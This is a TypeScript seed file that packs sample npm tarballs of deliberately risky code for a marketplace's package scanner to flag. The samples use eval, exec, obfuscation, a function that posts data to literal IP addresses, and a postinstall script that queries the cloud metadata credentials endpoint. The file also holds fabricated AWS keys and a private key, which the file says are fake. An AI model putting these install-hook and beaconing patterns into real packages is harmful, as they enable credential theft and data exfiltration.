/**
 * Package tarballs the seed builds so that every scanner rule has a real package to fire on:
 * a well-kept package, each kind of risky code, a leaked secret, and a bare package. Two carry
 * CRITICAL findings (the install script that reads the cloud metadata address, the leaked
 * secret); with nine samples alternating between the demo creator and others (submissions.ts),
 * each state has a critical submission of the demo creator's and one of another creator's.
 * The secrets are fabricated for the scanner to find; they grant access to nothing.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { create } from 'tar';

export interface SamplePackage {
  kind: string;
  /** Files under package/ (package.json is added from `manifest`). */
  files: Record<string, string>;
  manifest?: Record<string, unknown>;
}

const README = (name: string) => `# ${name}\n\nA plugin for the Marketdesk marketplace.\n\n## Usage\n\n\`\`\`js\nconst plugin = require('${name}');\nplugin.run({ verbose: true });\n\`\`\`\n`;

export const SAMPLE_PACKAGES: readonly SamplePackage[] = [
  {
    kind: 'well-kept',
    // Declares what it checks, as the seeded tiers sell it (pricing.ts): the review page's Licensing section has something to show.
    manifest: { types: 'index.d.ts', scripts: { test: 'node --test test/' }, marketdesk: { entitlements: ['core', 'team-sync'], metrics: ['api_calls'] } },
    files: {
      'index.js': "'use strict';\n\n/** Runs the plugin. */\nfunction run(options = {}) {\n  return { ok: true, verbose: Boolean(options.verbose) };\n}\n\nmodule.exports = { run };\n",
      'index.d.ts': 'export interface RunOptions { verbose?: boolean }\nexport declare function run(options?: RunOptions): { ok: boolean; verbose: boolean };\n',
      'test/index.test.js': "'use strict';\nconst test = require('node:test');\nconst assert = require('node:assert');\nconst { run } = require('../index.js');\n\ntest('run', () => {\n  assert.deepStrictEqual(run({ verbose: true }), { ok: true, verbose: true });\n});\n",
      'CHANGELOG.md': '# Changelog\n\n## 1.0.0\n\n- First release.\n',
      'LICENSE': 'MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software.\n',
      'examples/basic.js': "const { run } = require('..');\nconsole.log(run());\n",
    },
  },
  {
    kind: 'eval',
    files: { 'index.js': "'use strict';\n\nfunction evaluate(expression) {\n  return eval(expression);\n}\n\nconst compile = new Function('a', 'b', 'return a + b');\n\nmodule.exports = { evaluate, compile };\n" },
  },
  {
    kind: 'child-process',
    files: { 'index.js': "'use strict';\nconst { exec } = require('child_process');\n\nfunction update() {\n  exec('git pull --rebase', (error, stdout) => console.log(error || stdout));\n}\n\nmodule.exports = { update };\n" },
  },
  {
    kind: 'dynamic-require',
    files: { 'index.js': "'use strict';\n\nfunction load(name) {\n  const modulePath = './plugins/' + name;\n  return require(modulePath);\n}\n\nmodule.exports = { load };\n" },
  },
  {
    kind: 'obfuscated',
    files: {
      'index.min.js': `var _0x3f2a=['\\x68\\x65\\x6c\\x6c\\x6f','\\x77\\x6f\\x72\\x6c\\x64','\\x6c\\x6f\\x67'];(function(_0x1b2c,_0x4d5e){var _0x2f1a=function(_0x3c4d){while(--_0x3c4d){_0x1b2c['push'](_0x1b2c['shift']());}};_0x2f1a(++_0x4d5e);}(_0x3f2a,0x1a3));var _0x2a1b=function(_0x1c2d,_0x3e4f){_0x1c2d=_0x1c2d-0x0;var _0x5a6b=_0x3f2a[_0x1c2d];return _0x5a6b;};${'var _0x9f' + 'a'.repeat(40) + '=_0x2a1b(0x0);'.repeat(1)}console[_0x2a1b('0x2')](_0x2a1b('0x0')+' '+_0x2a1b('0x1'));module['exports']=function(){return _0x2a1b('0x1');};\n`,
    },
    manifest: { main: 'index.min.js' },
  },
  {
    kind: 'literal-ip',
    files: { 'index.js': "'use strict';\nconst https = require('https');\n\nasync function report(data) {\n  await fetch('http://45.33.32.156/collect', { method: 'POST', body: JSON.stringify(data) });\n  https.request({ host: '203.0.113.50', path: '/beacon' }).end();\n}\n\nmodule.exports = { report };\n" },
  },
  {
    kind: 'install-script',
    manifest: { scripts: { postinstall: 'node scripts/setup.js', preinstall: 'node scripts/check.js' } },
    files: {
      'index.js': "module.exports = () => 'ok';\n",
      // What credential-stealing install scripts do: ask the cloud metadata service for the machine's keys.
      'scripts/setup.js': "'use strict';\n\nfetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n  .then((response) => response.text())\n  .then((role) => console.log('setting up', role.length));\n",
      'scripts/check.js': "console.log('checking');\n",
    },
  },
  {
    kind: 'leaked-secret',
    files: {
      'index.js': "'use strict';\nconst config = require('./config');\nmodule.exports = () => config.region;\n",
      'config.js': "module.exports = {\n  region: 'eu-west-1',\n  accessKeyId: 'AKIAZ7QF4V3XK2L9MNPA',\n  secretAccessKey: 'q8Zt3vLk9PxR2mW7nB4cY6dH1sJ5fG0aE8uT3oVi',\n};\n",
      'deploy/key.pem': '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\nVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\nLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo\n-----END RSA PRIVATE KEY-----\n',
    },
  },
  {
    kind: 'bare',
    files: { 'index.js': 'module.exports=function(a,b){return a+b}\n' },
  },
];

/**
 * Packs `sample` as package `name`@`version` into `target` (a .tgz path), npm-style (package/).
 */
export async function packSample(sample: SamplePackage, name: string, version: string, target: string): Promise<void> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'marketdesk-seed-'));
  try {
    const files = {
      'package.json': JSON.stringify({ name, version, description: `${sample.kind} sample`, main: 'index.js', license: 'MIT', ...sample.manifest }, null, 2),
      'README.md': sample.kind === 'bare' ? '' : README(name),
      ...sample.files,
    };
    for (const [file, content] of Object.entries(files)) {
      if (file === 'README.md' && !content) continue;
      const full = path.join(dir, 'package', file);
      await mkdir(path.dirname(full), { recursive: true });
      await writeFile(full, content);
    }
    await mkdir(path.dirname(target), { recursive: true });
    await create({ gzip: true, cwd: dir, file: target, portable: true }, ['package']);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}
